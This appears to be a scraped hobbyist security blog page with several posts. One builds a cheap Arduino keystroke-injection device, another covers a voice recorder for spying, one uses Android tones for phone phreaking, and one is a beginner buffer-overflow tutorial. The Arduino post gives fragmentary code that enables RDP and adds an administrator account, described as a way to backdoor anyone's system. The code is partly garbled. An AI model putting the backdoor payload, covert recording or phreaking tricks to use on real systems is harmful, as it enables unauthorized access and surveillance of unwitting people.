Presenting at NCSSS-15 Cyber Summit

Awarded with the prestigious Award of Excellence by National Cyber Defense and Research Center

Presenting at Defcon | OWASP Lucknow Chapter at Amity, Lucknow

Demonstrating the Usage of Advanced Hadware Devices and Facial Recognition

In an Exclusive Conversation with India Watch

Interview for India Watch Channel on Security in India. Click to Know More...

Saturday, 24 September 2016

Recreating a USB Rubber Ducky under $4 in India

Holla Guys,

It's been a while I have been on my very own domain :P Anyways, today I would like to show you guys few things I have done in the past few years. I have been playing around with a lot of Arduino chips and ended up creating a clone of the USB Rubber Ducky using the keyboard libraries.

By using cheap Arduino chips I was not only able to run commands on my computer system but was able to bypass Android 4-Digit lock in less than 2 hours. So how was i able to do it? The very first thing we require is an Arduino Pro Micro Chip. You will find it on Amazon, Ebay or anywhere else and it would cost around 800-900 Rupees which is a lot of money :P So, I chose to go with Aliexpress and got the chips for less than $4. Check the screen below for pricing:
Pro Micro Arduino Chip

Having the chip, all you need to is to use a USB - Micro Cable to connect your new Arduino chip to the system. For all the folks who know about Arduino's please feel free to skip one or two paragraphs. You will need the Arduino IDE (Download and install). You will also need to set your board to ArduinoLeonardo(Compatible with Arduino Pro Micro)

Next, all we need to do is to interpret our required functionality in the form of keystrokes and build a program around it. function will type the required key for us while Keyboard.release() will release a particular key. Another important function is Keyboard.releaseAll() which will release all the pressed keys at once. Say, "CTRL+SHIFT+DEL" pressing this combination will require you to press one key after the other while holding them all and releasing them together. Similar combinations are required for any combinations we want. The beauty of the Arduino is that it types in so fast that barely a human eye could catch(if very little delays are present).  Let's say we need to open an admin prompt; we will first press the left windows key, then we will type in cmd, then right clicking cmd(CTRL+SHIFT+F10), then a down arrow key and finally enter key. However, if UAC is enabled another Right Arrow Press Followed by an Enter is required. You can understand the functionality through the following image:

So, let's simply create an example program which will Bypass UAC, Enable RDP and add a user named hacker to the system as follows:
void setup() {
print(F("reg add "));
String abc= "\\";
print(F("\"HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server\""));
print(F(" /v fDenyTSConnections /t REG_DWORD /d 0 /f"));
print(F("net user hacker hacker /add"));print(F("net localgroup administrators hacker /add"));
void type(int key, boolean release) {;
void print(const __FlashStringHelper *value) {
void loop(){}
Loading this program into the Arduino, we can backdoor anybody's system with a new user account and can remote connect to the system. However, using a little modification you can also obtain the IP address of the system as well. I have already created a demonstration exploiting the CTRL+SHIFT+PRNTSCR functionality at login time which can be found below:


Wednesday, 3 December 2014

Keep Spying with a Low Cost Voice Recorder

Voice Recording is one of the primary aspects when it comes to Spying. Today let us discuss about ISD 1820 Voice Recording Module.

This Module works both independently as well as with Arduino, Pi Boards etc. it is quite small, say a few centimeters bigger than the SD card adapter. This module operates on 3V-5V. Starting to record, playing back can both be controlled using hardware switches as well as Boards like Arduino, Pi etc.

This module is can be used to build various projects for spying and can be interfaced with SIM900, Motion Sensor so on andso forth.

A Basic Video demonstrating operations of this module can be found at-

Wednesday, 19 November 2014

Android Keypad Tones, A Perfect BlueBox!

I recently found that keypad tones from android devices can act as a perfect phone phreaking blue box.

In Simple Terms: Feed in Equivalent Calling tones to the Mic of the Land Line from Android, this will allow you to call the number for whom the tones are generated for.

However, for some devices like Samsung and others, may not generate the same tones. However, for those devices, we can simply install ToneDef Application from Google Playstore for free. Using this app or the android dialer pad itself may allow phreaking on telephone land lines.

So many of you guys might have seen a old style phone lockthat hides the entire keypad from a landline phone. Now, you don't have to bother about that at all. We can simply use an android app to bypass Keypad locks and in most cases with the ToneDef app we can simply bypass Pay-Phones as well.

Have a Look at a simple demonstration using android at-
Kindly share your thoughts in the comments and if you liked the video, kindly give it a share.

Monday, 27 October 2014

Exploit Writing Series Tutorial 1: Buffer Overflow on Linux

Hey folks,
i have been thinking for so long to start a noob friendly series on exploit writing but never got that much time. Anyways, let's talk about exploit writing-

So, what is an exploit?
an exploit is a piece of code that takes the advantage of avulnerable system.

However, keeping this a noob friendly tutorial let's make some things very clear. Firstly, an exploit may or may not work on two different application versions, may not work on two different operating systems.
Secondly, if you think you already knowbasics, you can leave the website immediately.

Well, Throughout this series we will start from the very basic (I Mean it :P) this means we will take up things as soon as they appear. So, you don't have to worry about ASM, Comp. Architecture etc.

i already mentioned that we will take up things as soon as they appear. However, for this tutorial you should have a lil knowledge about C Programming.

So, let's take up the most basic "Stack based Buffer Overflows" at the very first stage-Now, what is a stack?
we can see in the above picture that we organized every book one above the other. However, we can collectively say that this is a stack of books. Now, to build this stack, we placed the first book, then the other on top of it and so on until we run out of books.

Exactly, what follows in Computer systems. We can put operands and operators one above the other to form a stack. This is called the "Push" operation. This alsomeans that the first book is now at the bottom and the last one is at the top. This is why stack is called Last-in-First-Out. So, when we need to remove a book, we first need to remove the book at the top, this is called the "Pop" operation.

So, What is Buffer Overflow?
A buffer is a region which stores data temporarily and when more data than itscapacity is supplied, it gets overflowed.

Let's see an example-
void noexec()
printf("this never executes");

void main(int argc, char** argv)
char buffer[50];
In the above program, we have two different functions- main and noexec. When we run this program, it simply receives the command line argument, copies it into the buffer variable and simply prints it. Now, you might ask, why do we have noexec() function if we are not calling it any where in the program? this is because in order to work out the simplest buffer overflow, we will try to execute this function by exploiting it.

Let's compile this program using the following command-
#gcc -ggdb -o rofl -fno-stack-protector expl1.c -mpreferred-stack-boundary=2
To compile a C program in linux, we use gcc, -ggdb option allows the code to be executed and listed in debugger by supplying enough information to the debugger, about the program, -fno-stack-protector option turns off stack protection mechanisms inLinux while compiling the program and -mpreferred-stack-boundary=2 option aligns the stack on a 4-byte boundary and will be susceptible to crash as well. However, by default it's on 16-byte boundary.(You can Skip the above paragraph, for now we just need to focus on compiling the application program)

Let's execute the program, and supply 50 A's, we can see that it gets printed, Let's try with51 A's, 52 A's and 53 A's. We can see that program exited normally after outputting the supplied input. However, as soon as we provide 54 A's we get Segmentation Fault which denotes crashing of the program or we can say the buffer just overflowed. You might ask, we had the buffer for 50 characters but it still got executed at 51,52,53. This is because the input didn't overwrote the EIP initially and may have overwrote other registers which didn't affected the program's execution.

What is EIP?
A register which stores the address of the next instruction. Therefore, if we overwrite this EIP register with the address of our choice, our choice will be the next instruction to be executed by the program. This potentially means that we can redirect the flow of a program to anywhere we want.

Let's open this program in GDB-
GDB is a debugger which can allow us to view the state of the registers, stack, memory locations etc throughout the execution of aprogram(I Know this is the most basic tutorial and introducing GDB may not be the correct idea right now, but for the sake of running the noexec function we need its memory address).

#gdb ./rofl

the above command will run the program in GDB. To find the starting address of the noexec() function we need to input a simple command which is "disassemble" followed by the name of the function

(gdb) disas noexec

this command will output the following-
Don't get scared! for Now, we only need the address of the first instruction which is 0x0804847c.

Next, we simply need to input this address after 54 A characters and this will overwrite the current address in EIP resulting in altering the flow of the program according to our needs.

Let's test it out-
Keeping it simple, we will supply 54 A's and the address in Little endian format which is to reverse the bytes(ex- split the bytes 08 04 84 7c to 7c 84 04 08.
We can see that after outputting the input, noexec function runs thus outputting "This Function Does Not Execute".

This tutorial is purely for the newbies in exploit writing. If You liked this tutorial, comment your feedback and suggestions.

For exploiting the same on x64 based architecture, refer to Adhokshaj Mishra'sWebsite.

See you Next week.